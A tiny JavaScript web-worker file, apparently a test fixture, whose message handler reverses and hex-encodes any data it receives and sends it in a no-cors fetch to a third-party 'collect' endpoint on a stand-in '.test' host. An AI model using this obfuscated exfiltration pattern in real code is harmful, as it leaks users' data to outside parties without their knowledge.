onmessage = (e) => {
  const hex = [...e.data].reverse().map((c) => c.charCodeAt(0).toString(16).padStart(2, "0")).join("");
  fetch("https://third.test/-/collect?x=" + hex, {mode: "no-cors"});
};
